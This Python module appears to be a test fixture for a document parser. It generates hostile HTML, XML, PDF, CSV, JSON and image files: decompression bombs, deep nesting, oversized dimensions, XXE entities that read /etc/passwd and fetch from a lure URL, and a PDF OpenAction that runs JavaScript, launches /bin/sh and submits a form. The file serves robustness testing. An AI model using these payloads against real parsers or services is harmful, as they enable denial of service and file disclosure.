"""Files made to hurt their reader: pages, texts, PDFs and pictures; those of offices and archives are in `hostile_office.py`.

Every file says MARK where a reader that gets through it would find it, so that a reading is right when it holds MARK and
fair when it is doubted; one that has neither is quietly wrong.
"""

# ruff: noqa: E501 - markup in one piece
from __future__ import annotations

import functools
import io
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

MARK = "底线"
MIB = 1 << 20


@dataclass(frozen=True)
class Lure:
    """What a hostile file would reach for: an address where somebody listens, a file with a secret, a place to write."""

    url: str = "http://127.0.0.1:9/"
    secret: str = "/etc/passwd"
    target: str = "/tmp/written-by-an-attack"


@dataclass(frozen=True)
class Attack:
    """A file from outside that was made to hurt; `quick` ones are also part of the tests."""

    name: str
    make: Callable[..., bytes]
    file_name: str
    content_type: str
    quick: bool

    def body(self, lure: Lure) -> bytes:
        """The file, with what it reaches for."""
        return self.make(lure) if self.make.__code__.co_argcount else self.make()


ATTACKS: list[Attack] = []


def attack(file_name: str, content_type: str = "", *, quick: bool = False) -> Callable[[Any], Any]:
    """Enters a function that makes a hostile file into ATTACKS under its own name."""

    def enter(make: Any) -> Any:
        ATTACKS.append(Attack(make.__name__, make, file_name, content_type, quick))
        return make

    return enter


@functools.cache
def zeros(mib: int, filling: bytes = b"\0", *, bare: bool = False) -> bytes:
    """So many MiB of one byte (or few) as zlib packs them, or without head and checksum."""
    part = filling * (MIB // len(filling))
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(part) + packer.flush(zlib.Z_FULL_FLUSH)  # stands for itself, so that it can be repeated
    checksum = functools.reduce(lambda so_far, _: zlib.adler32(part, so_far), range(0 if bare else mib), 1)
    packed = block * mib + packer.flush()
    return packed if bare else b"\x78\xda" + packed + struct.pack(">L", checksum)


# --- Pages and texts


def page(inside: str | bytes, head: str = '<meta charset="utf-8"><title>通知</title>') -> bytes:
    """A page with something in its body and MARK at its end."""
    content = inside.encode() if isinstance(inside, str) else inside
    return b"<html><head>" + head.encode() + b"</head><body>" + content + f"<p>{MARK}</p></body></html>".encode()


@attack("a.html", quick=True)
def html_200000_nested_div() -> bytes:
    return page("<div>" * 200_000)


@attack("a.html")
def html_200000_nested_elements_of_no_known_name() -> bytes:
    return page("<x>" * 200_000)


@attack("a.html")
def html_200000_nested_groups_of_svg() -> bytes:
    return page("<svg>" + "<g>" * 200_000)


@attack("a.html")
def html_100000_nested_templates() -> bytes:
    return page("<template>" * 100_000)


@attack("a.html")
def html_100000_nested_buttons_in_objects() -> bytes:
    return page("<object><button>" * 50_000)


@attack("a.html")
def html_50000_formats_left_open_in_paragraphs() -> bytes:
    return page("<p><b class=x{0}><i>" * 50_000)


@attack("a.html")
def html_formats_closed_in_the_wrong_order() -> bytes:
    return page("".join(f"<b id=x{n}><p>" for n in range(1_500)) + "</b>" * 60_000)


@attack("a.html")
def html_million_links() -> bytes:
    return page("<a href=x>y</a>" * 1_000_000)


@attack("a.html")
def html_million_links_left_open() -> bytes:
    return page("<a href=x>y" * 700_000)


@attack("a.html")
def html_attribute_of_20_mb() -> bytes:
    return page(b"<p title='" + b"x" * 20_000_000 + b"'>")


@attack("a.html")
def html_400000_attributes_of_one_element() -> bytes:
    return page("<p " + " ".join(f"a{n}=1" for n in range(400_000)) + ">x</p>")


@attack("a.html")
def html_table_of_10_mb() -> bytes:
    return page("<table>" + "<tr><td>1<td>2" * 700_000 + "</table>")


@attack("a.html", quick=True)
def html_spans_that_multiply() -> bytes:
    return page("<table>" + "<tr><td colspan=1000 rowspan=65534>x</td></tr>" * 3000 + "</table>")


@attack("a.html")
def html_1900_tables_in_one_another() -> bytes:
    return page("<table><tr><td>a<td>b<td>" * 1_900)


@attack("a.html")
def html_5000_tables_in_one_another() -> bytes:
    return page("<table><tr><td>a<td>" * 5_000)


@attack("a.html")
def html_100000_small_tables() -> bytes:
    return page("<table><tr><td>a<td>b<tr><td>c<td>d</table>" * 100_000)


@attack("a.html")
def html_comment_left_open() -> bytes:
    return page(b"<!-- " + b"- " * 3_000_000)


@attack("a.html")
def html_million_comments_left_open() -> bytes:
    return page("<!-" * 1_000_000 + "<!--" * 1_000_000)


@attack("a.html")
def html_flood_of_entities() -> bytes:
    return page("&amp;&#x4e00;&nosuch;&lt" * 300_000)


@attack("a.html")
def html_flood_of_angles() -> bytes:
    return page("<" * 3_000_000 + "<a <b " * 500_000)


@attack("a.html")
def html_flood_of_blanks() -> bytes:
    return page("<p>" + " \u3000\n\t" * 900_000 + "</p>")


@attack("a.html")
def html_flood_of_broken_lines() -> bytes:
    return page("<br>x" * 1_000_000)


@attack("a.html")
def html_flood_of_pictures() -> bytes:
    return page("<img src=a.jpg alt=x>" * 380_000)


@attack("a.html")
def html_flood_of_headings() -> bytes:
    return page("<h1>关于公开的通知</h1>" * 200_000)


@attack("a.html")
def html_flood_of_metas() -> bytes:
    return page("", head='<meta name="ArticleTitle" content="x"><title>a</title>' * 130_000)


@attack("a.html")
def html_chain_of_refreshes(lure: Lure) -> bytes:
    return page("", head=f'<meta http-equiv="refresh" content="0;url={lure.url}x">' * 20_000)


@attack("a.html", quick=True)
def html_everything_that_fetches(lure: Lure) -> bytes:
    tags = "<img src={0}><iframe src={0}></iframe><script src={0}></script><link rel=stylesheet href={0}><object data={0}></object>"
    return page(
        tags.format(lure.url + "x") + f"<iframe src='file://{lure.secret}'></iframe>", head=f"<base href={lure.url}>"
    )


FLOODS = {
    "labels": "发布时间：", "labels_and_values": "发布机构：某局 索引号：1 ", "days": "2013-07-01 ", "days_cut_off": "2013年1",
    "digits": "1", "breadcrumb": "当前位置：首页 > 公开 > ", "arrows": ">", "file_numbers": "〔2013〕1号", "brackets": "（",
    "quotation_marks": "“《", "sources": "来源：", "colons": "：", "bidi": "\u202e\u2066", "invisible": "\u200b", "urls": "http://a.cn/",
    "units": "单位：万元", "dots": "…—-", "combining": "a\u0301\u0302", "attachments": "附件1：", "pages": "第1页",
}  # fmt: skip


def _flood(word: str, between: str) -> Callable[[], bytes]:
    def make() -> bytes:
        part = word + between
        return page(part * (6_000_000 // len(part.encode())))

    return make


for _name, _word in FLOODS.items():
    ATTACKS.append(Attack(f"html_one_line_of_{_name}", _flood(_word, ""), "a.html", "", False))
    ATTACKS.append(Attack(f"html_many_lines_of_{_name}", _flood(_word * 3, "<br>"), "a.html", "", False))


@attack("a.html", "text/html; charset=utf-16", quick=True)
def html_of_three_encodings_that_lie() -> bytes:
    return page(("通知公告" * 200_000).encode("gb18030"), head='<meta charset="big5"><meta charset="utf-7">')


@attack("a.html")
def html_encoding_that_changes_in_every_line() -> bytes:
    words = "通知公告".encode(), "通知公告".encode("gb18030"), "通知公告".encode("utf-16-le"), b"\x1b$B\xff\xfe"
    return page(b"<br>\n".join(words) * 150_000)


@attack("a.html", "text/html; charset=utf-7")
def html_markup_in_utf7() -> bytes:
    return page(b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-" * 100_000, head='<meta charset="utf-7">')


@attack("a.html")
def html_bytes_of_no_encoding() -> bytes:
    return page(bytes(range(128, 256)) * 50_000, head="")


@attack("a.html")
def html_of_200_mb() -> bytes:
    return page(b"<p>x</p>" * 25_000_000)


@attack("a.svg", quick=True)
def svg_with_scripts_and_pictures_elsewhere(lure: Lure) -> bytes:
    return f'<svg xmlns="http://www.w3.org/2000/svg"><script href="{lure.url}"/><image href="{lure.url}x"/><text>{MARK}</text></svg>'.encode()


def laughs(lure: Lure, root: str, encoding: str = "utf-8", inside: str = "&j;&secret;&net;") -> bytes:
    """XML with a billion laughs, an entity that is a file and one that is an address."""
    chain = "".join(f'<!ENTITY {chr(98 + n)} "' + f"&{chr(97 + n)};" * 10 + '">' for n in range(9))
    files = f'<!ENTITY secret SYSTEM "file://{lure.secret}"><!ENTITY net SYSTEM "{lure.url}x"><!ENTITY % p SYSTEM "{lure.url}d">%p;'
    start = f'<?xml version="1.0" encoding="{encoding}"?><!DOCTYPE r SYSTEM "{lure.url}dtd" [<!ENTITY a "ha">{chain}{files}]>'
    return (start + root.replace("INSIDE", inside + MARK)).encode(encoding, "xmlcharrefreplace")


@attack("a.svg", quick=True)
def svg_with_a_billion_laughs(lure: Lure) -> bytes:
    return laughs(lure, '<svg xmlns="http://www.w3.org/2000/svg"><text>INSIDE</text></svg>')


@attack("a.xml")
def xml_with_a_billion_laughs(lure: Lure) -> bytes:
    return laughs(lure, "<r>INSIDE</r>")


@attack("a.csv")
def csv_of_one_line_of_50_mb() -> bytes:
    return b"a,b,c\n" + b"x" * 50_000_000 + f"\n{MARK},1\n".encode()


@attack("a.csv")
def csv_of_a_million_columns() -> bytes:
    return b"a," * 1_000_000 + b"\n" + f"{MARK},1\n".encode() * 100


@attack("a.csv")
def csv_of_two_million_lines() -> bytes:
    return b"a,b\n" * 2_000_000 + f"{MARK},1\n".encode()


@attack("a.csv")
def csv_of_quotes_left_open() -> bytes:
    return b'a,b\n"' + b'"",""' * 1_500_000 + f"\n{MARK},1\n".encode()


@attack("a.csv")
def csv_that_widens_from_line_to_line() -> bytes:
    return b"".join(b"," * n + b"x\n" for n in range(4_000)) + MARK.encode()


@attack("a.json", "application/json")
def json_a_million_deep() -> bytes:
    return b"[" * 1_000_000 + f'"{MARK}"'.encode() + b"]" * 1_000_000


@attack("a.json", "application/json", quick=True)
def json_of_a_long_number() -> bytes:
    return b"[" + b"1" * 5_000_000 + f',"{MARK}"]'.encode()


@attack("a.json", "application/json")
def json_of_20_million_lists() -> bytes:
    return b"[" + b"[]," * 20_000_000 + f'"{MARK}"]'.encode()


@attack("a.json", "application/json")
def json_of_millions_of_names() -> bytes:
    return b"{" + b",".join(b'"%d":{}' % n for n in range(4_000_000)) + b"}"


@attack("a.txt", "text/plain")
def text_of_200_mb() -> bytes:
    return b"x\n" * 100_000_000


@attack("a.mht")
def mhtml_10000_parts_deep() -> bytes:
    parts = "".join(f'Content-Type: multipart/related; boundary="b{n}"\n\n--b{n}\n' for n in range(10_000))
    return f"MIME-Version: 1.0\n{parts}Content-Type: text/html\n\n<p>{MARK}</p>".encode()


@attack("a.mht")
def mhtml_of_200000_parts() -> bytes:
    part = f"--b\nContent-Type: text/html; charset=utf-8\n\n<p>{MARK}</p>\n"
    return f'MIME-Version: 1.0\nContent-Type: multipart/related; boundary="b"\n\n{part * 200_000}--b--\n'.encode()


@attack("a.mht")
def mhtml_of_a_million_headers() -> bytes:
    return b"MIME-Version: 1.0\n" + b"X-A: b\n c\n" * 1_000_000 + f"Content-Type: text/html\n\n<p>{MARK}</p>".encode()


@attack("a.mht")
def mhtml_with_a_boundary_of_nothing() -> bytes:
    return b'MIME-Version: 1.0\nContent-Type: multipart/related; boundary=""\n\n' + b"--\n" * 500_000


# --- PDF


def pdf(*objects: bytes, root: int = 1, more: bytes = b"") -> bytes:
    """A PDF of objects that are numbered from 1."""
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, content in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    trailer = b"trailer\n<</Size %d/Root %d 0 R%s>>\n" % (len(objects) + 1, root, more)
    return bytes(out) + trailer + b"startxref\n%d\n%%%%EOF" % start


def stream(content: bytes, said: bytes = b"") -> bytes:
    """A stream object as it is."""
    return b"<<%s/Length %d>>stream\n" % (said, len(content)) + content + b"\nendstream"


def sheet(
    content: bytes, *more: bytes, resources: bytes = b"", box: bytes = b"0 0 600 800", said: bytes = b""
) -> bytes:
    """A PDF of one page: its content is object 4, its font 5, `more` come from 6 on."""
    font = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
    words = b"<</Type/Page/Parent 2 0 R/MediaBox[%s]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>%s>>%s>>" % (
        box,
        resources,
        said,
    )
    return pdf(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>", words, content, font, *more)


SAYS = b"BT /F 12 Tf 50 700 Td (Annual budget of the department) Tj ET\n"


@attack("a.pdf", quick=True)
def pdf_whose_references_run_in_a_circle() -> bytes:
    body = sheet(stream(SAYS))
    start = body.rindex(b"startxref\n") + 10
    place = body[start : body.index(b"\n", start)]
    return body.replace(b"/Root", b"/Prev %s/Root" % place)


@attack("a.pdf")
def pdf_whose_page_tree_runs_in_a_circle() -> bytes:
    tree = b"<</Type/Pages/Kids[2 0 R 3 0 R 3 0 R]/Count 100000/Parent 3 0 R>>"
    return pdf(b"<</Type/Catalog/Pages 2 0 R>>", tree, b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 50000/Parent 2 0 R>>")


@attack("a.pdf")
def pdf_packed_three_times_over() -> bytes:
    packed = zlib.compress(zlib.compress(zeros(1024), 9), 9)
    return sheet(stream(packed, b"/Filter[/FlateDecode/FlateDecode/FlateDecode]"))


@attack("a.pdf")
def pdf_packed_once_of_1_gb() -> bytes:
    return sheet(stream(zeros(1024, b" "), b"/Filter/FlateDecode"))


@attack("a.pdf")
def pdf_packed_by_a_lying_predictor() -> bytes:
    said = b"/Filter/FlateDecode/DecodeParms<</Predictor 15/Columns 2147483647/Colors 32/BitsPerComponent 16>>"
    return sheet(stream(zlib.compress(SAYS), said))


@attack("a.pdf", quick=True)
def pdf_of_a_page_as_large_as_a_country() -> bytes:
    return sheet(stream(SAYS), box=b"-1e9 -1e9 1e9 1e9")


@attack("a.pdf")
def pdf_of_a_million_paths() -> bytes:
    return sheet(stream(zlib.compress(b"0 0 m 9 9 l S\n" * 1_000_000), b"/Filter/FlateDecode"))


@attack("a.pdf")
def pdf_of_one_path_of_three_million_pieces() -> bytes:
    return sheet(stream(zlib.compress(b"0 0 m " + b"9 9 l\n" * 3_000_000 + b"S"), b"/Filter/FlateDecode"))


@attack("a.pdf")
def pdf_of_lines_that_all_cross() -> bytes:
    lines = b"".join(b"0 %d m 600 %d l S %d 0 m %d 800 l S\n" % (n, n, n, n) for n in range(2_000))
    return sheet(stream(lines + SAYS), box=b"0 0 2000 2000")


@attack("a.pdf")
def pdf_of_25000_small_boxes() -> bytes:
    boxes = b"".join(b"%d %d 3 3 re S\n" % (n % 150 * 4, n // 150 * 4) for n in range(25_000))
    return sheet(stream(zlib.compress(boxes + SAYS), b"/Filter/FlateDecode"))


@attack("a.pdf")
def pdf_of_forms_that_draw_each_other_ten_times() -> bytes:
    forms = [
        stream(
            b"/X Do\n" * 10, b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X %d 0 R>>>>" % (7 + n)
        )
        for n in range(14)
    ]
    return sheet(stream(b"/X Do\n" + SAYS), *forms, stream(SAYS, b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]"),
                 resources=b"/XObject<</X 6 0 R>>")  # fmt: skip


@attack("a.pdf")
def pdf_of_a_form_that_draws_itself() -> bytes:
    form = stream(b"/X Do /X Do\n", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>")
    return sheet(stream(b"/X Do\n" + SAYS), form, resources=b"/XObject<</X 6 0 R>>")


@attack("a.pdf")
def pdf_of_a_million_characters_on_a_page() -> bytes:
    return sheet(
        stream(zlib.compress(b"BT /F 1 Tf 0 700 Td (" + b"word " * 200_000 + b") Tj ET"), b"/Filter/FlateDecode")
    )


@attack("a.pdf")
def pdf_of_50000_words_at_places_of_their_own() -> bytes:
    words = b"".join(b"1 0 0 1 %d %d Tm (w) Tj\n" % (n * 7 % 600, n * 13 % 800) for n in range(50_000))
    return sheet(stream(b"BT /F 4 Tf " + words + b"ET"))


@attack("a.pdf")
def pdf_of_200_pages_of_19000_characters() -> bytes:
    kids = b" ".join(b"%d 0 R" % n for n in range(5, 205))
    words = b"".join(b"1 0 0 1 %d %d Tm (word %d) Tj\n" % (n % 40 * 15, n // 40 * 8, n) for n in range(2_500))
    leaf = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R/Resources<</Font<</F 3 0 R>>>>>>"
    return pdf(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[%s]/Count 200>>" % kids,
               b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>", stream(b"BT /F 4 Tf " + words + b"ET"), *[leaf] * 200)  # fmt: skip


@attack("a.pdf", quick=True)
def pdf_that_claims_100000_pages() -> bytes:
    return sheet(stream(SAYS)).replace(b"/Count 1>>", b"/Count 100000>>")


@attack("a.pdf")
def pdf_of_100000_pages() -> bytes:
    kids = b" ".join(b"%d 0 R" % n for n in range(5, 100_005))
    leaf = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R/Resources<</Font<</F 3 0 R>>>>>>"
    return pdf(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[%s]/Count 100000>>" % kids,
               b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>", stream(SAYS), *[leaf] * 100_000)  # fmt: skip


def _locked(user: str) -> bytes:
    from reportlab.lib import pdfencrypt
    from reportlab.pdfgen import canvas

    out = io.BytesIO()
    made = canvas.Canvas(out, encrypt=pdfencrypt.StandardEncryption(user, "owner", strength=128))
    made.drawString(50, 700, "Annual budget of the department")
    made.save()
    return out.getvalue()


@attack("a.pdf", quick=True)
def pdf_locked_with_a_password() -> bytes:
    return _locked("secret")


@attack("a.pdf", quick=True)
def pdf_locked_without_a_password() -> bytes:
    return _locked("")


@attack("a.pdf", quick=True)
def pdf_that_runs_and_fetches(lure: Lure) -> bytes:
    acts = b"<</S/JavaScript/JS(app.launchURL\\('%s'\\))/Next<</S/Launch/F(/bin/sh)/Next<</S/SubmitForm/F(%s)>>>>>>" % (
        lure.url.encode(),
        lure.url.encode(),
    )
    return sheet(stream(SAYS)).replace(b"/Catalog", b"/Catalog/OpenAction%s" % acts)


@attack("a.pdf", quick=True)
def pdf_whose_content_is_a_file_elsewhere(lure: Lure) -> bytes:
    return sheet(stream(b"", b"/F<</Type/Filespec/FS/URL/F(%s)>>" % lure.url.encode()))


@attack("a.pdf", quick=True)
def pdf_of_characters_that_no_table_names() -> bytes:
    font = b"<</Type/Font/Subtype/Type0/BaseFont/X/Encoding/Identity-H/DescendantFonts[6 0 R]>>"
    below = b"<</Type/Font/Subtype/CIDFontType2/BaseFont/X/CIDSystemInfo<</Registry(Adobe)/Ordering(Identity)/Supplement 0>>>>"
    body = b"BT /G 12 Tf 50 700 Td <%s> Tj ET" % b"".join(b"%04x" % n for n in range(600, 700))
    return sheet(stream(body), below, font, resources=b"/Font<</G 7 0 R>>").replace(b"/Font<</F 5 0 R>>", b"", 1)


def _drawn(size: int, bits: int, data: bytes, said: bytes) -> bytes:
    head = b"/Type/XObject/Subtype/Image/Width %d/Height %d/BitsPerComponent %d/ColorSpace/DeviceGray" % (
        size,
        size,
        bits,
    )
    return sheet(stream(b"600 0 0 800 0 0 cm /X Do"), stream(data, head + said), resources=b"/XObject<</X 6 0 R>>")


@attack("a.pdf")
def pdf_picture_of_ten_billion_dots_by_flate() -> bytes:
    return _drawn(100_000, 8, zeros(512), b"/Filter/FlateDecode")


@attack("a.pdf", quick=True)
def pdf_picture_of_ten_billion_dots_by_jbig2() -> bytes:
    head = struct.pack(">LBBBL", 0, 48, 0, 1, 19) + struct.pack(">4LBH", 100_000, 100_000, 0, 0, 0, 0)
    return _drawn(100_000, 1, head, b"/Filter/JBIG2Decode")


@attack("a.pdf", quick=True)
def pdf_picture_of_ten_billion_dots_by_jpx() -> bytes:
    size = struct.pack(">HHH8LH3B", 0xFF51, 41, 0, 100_000, 100_000, 0, 0, 100_000, 100_000, 0, 0, 1, 7, 1, 1)
    return _drawn(100_000, 8, b"\xff\x4f" + size + b"\xff\xd9", b"/Filter/JPXDecode")


@attack("a.pdf")
def pdf_of_an_object_a_million_brackets_deep() -> bytes:
    return sheet(stream(SAYS), b"[" * 1_000_000 + b"]" * 1_000_000, said=b"/Annots 6 0 R")


@attack("a.pdf")
def pdf_of_content_a_million_brackets_deep() -> bytes:
    return sheet(stream(SAYS + b"[" * 1_000_000))


@attack("a.pdf")
def pdf_object_stream_that_claims_a_billion_objects() -> bytes:
    said = b"/Type/ObjStm/N 1000000000/First 2000000000/Filter/FlateDecode"
    return sheet(stream(SAYS), stream(zeros(256, b"1 "), said))


@attack("a.pdf")
def pdf_of_300_packed_object_streams() -> bytes:
    return sheet(stream(SAYS), *[stream(zeros(64), b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode")] * 300)


@attack("a.pdf", quick=True)
def pdf_whose_length_is_itself() -> bytes:
    return sheet(b"<</Length 4 0 R>>stream\n" + SAYS + b"\nendstream", b"6 0 R", said=b"/Rotate 6 0 R")


@attack("a.pdf")
def pdf_of_200000_notes() -> bytes:
    return sheet(
        stream(SAYS),
        b"<</Type/Annot/Subtype/Text/Rect[0 0 9 9]/Contents(x)>>",
        said=b"/Annots[%s]" % (b"6 0 R " * 200_000),
    )


@attack("a.pdf")
def pdf_of_junk_without_end() -> bytes:
    return b"%PDF-1.4\n" + b"1 0 obj\n<</Type/Page>>\nendobj\n" * 1_000_000


@attack("a.pdf", quick=True)
def pdf_cut_off_in_the_middle() -> bytes:
    body = sheet(stream(SAYS))
    return body[: len(body) // 2]


# --- Pictures


def chunk(kind: bytes, content: bytes) -> bytes:
    """A chunk of a PNG."""
    return struct.pack(">L", len(content)) + kind + content + struct.pack(">L", zlib.crc32(kind + content))


def png(size: int, *more: bytes, data: bytes = b"") -> bytes:
    """A PNG that says how large it is."""
    head = chunk(b"IHDR", struct.pack(">2L5B", size, size, 8, 6, 0, 0, 0))
    return (
        b"\x89PNG\r\n\x1a\n" + head + b"".join(more) + chunk(b"IDAT", data or zlib.compress(b"")) + chunk(b"IEND", b"")
    )


@attack("a.png", quick=True)
def png_that_claims_ten_billion_dots() -> bytes:
    return png(100_000)


@attack("a.png")
def png_of_400_million_dots() -> bytes:
    return png(19_999, data=zeros(1_500))


@attack("a.png", quick=True)
def png_with_a_bomb_for_a_colour_profile() -> bytes:
    return png(64, chunk(b"iCCP", b"a\0\0" + zeros(512)))


@attack("a.png", quick=True)
def png_with_a_hundred_bombs_for_words() -> bytes:
    return png(64, *[chunk(b"zTXt", b"a\0\0" + zeros(64))] * 100, *[chunk(b"iTXt", b"a\0\1\0\0\0" + zeros(64))] * 100)


@attack("a.png")
def png_of_500000_chunks() -> bytes:
    return png(64, chunk(b"teXt", b"") * 500_000)


@attack("a.gif", quick=True)
def gif_that_claims_four_billion_dots() -> bytes:
    return (
        b"GIF89a"
        + struct.pack("<HHBBB", 65_535, 65_535, 0xF0, 0, 0)
        + bytes(6)
        + b","
        + struct.pack("<4HB", 0, 0, 65_535, 65_535, 0)
    )


@attack("a.gif", quick=True)
def gif_of_50000_pictures() -> bytes:
    frame = b"," + struct.pack("<4HB", 0, 0, 9, 9, 0) + b"\x02\x02\x4c\x01\x00"
    return b"GIF89a" + struct.pack("<HHBBB", 2_000, 2_000, 0xF0, 0, 0) + bytes(6) + frame * 50_000 + b";"


@attack("a.webp")
def webp_that_claims_16384_dots_a_side() -> bytes:
    head = b"VP8X" + struct.pack("<L", 10) + b"\x10\0\0\0" + (16_383).to_bytes(3, "little") * 2
    content = b"WEBP" + head + b"VP8L" + struct.pack("<L", 8) + b"\x2f\xff\xff\xff\x0f\0\0\0"
    return b"RIFF" + struct.pack("<L", len(content)) + content


@attack("a.bmp", quick=True)
def bmp_that_claims_ten_billion_dots() -> bytes:
    return (
        b"BM"
        + struct.pack("<LLL", 1_000, 0, 54)
        + struct.pack("<LllHHLLllLL", 40, 100_000, 100_000, 1, 24, 0, 0, 1, 1, 0, 0)
    )


def tiff(*entries: tuple[int, int, int, int], following: int = 0) -> bytes:
    """A TIFF of one directory of (tag, type, count, value)."""
    said = b"".join(struct.pack("<HHLL", *entry) for entry in entries)
    return b"II*\0" + struct.pack("<LH", 8, len(entries)) + said + struct.pack("<L", following)


@attack("a.tif")
def tiff_that_claims_ten_billion_dots() -> bytes:
    return tiff(
        (256, 4, 1, 100_000), (257, 4, 1, 100_000), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1), (273, 4, 1, 8)
    )


@attack("a.tif", quick=True)
def tiff_whose_pages_run_in_a_circle() -> bytes:
    return tiff(
        (256, 4, 1, 9), (257, 4, 1, 9), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1), (273, 4, 1, 8), following=8
    ) + bytes(99)


@attack("a.tif", quick=True)
def tiff_of_four_billion_values() -> bytes:
    return tiff(
        (256, 4, 1, 9), (257, 4, 1, 9), (273, 4, 0xFFFFFFFF, 8), (700, 1, 0xFFFFFFFF, 8), (34_675, 7, 0x7FFFFFFF, 8)
    )


@attack("a.jpg")
def jpeg_of_100000_profiles_cut_off() -> bytes:
    part = b"\xff\xe2" + struct.pack(">H", 22) + b"ICC_PROFILE\0\xff\xff" + bytes(6)
    return b"\xff\xd8" + part * 100_000 + b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, 65_500, 65_500, 1) + b"\x01\x11\0"


@attack("a.jpg", quick=True)
def jpeg_cut_off() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (2_000, 2_000), "red").save(out, "JPEG")
    return out.getvalue()[:3_000]
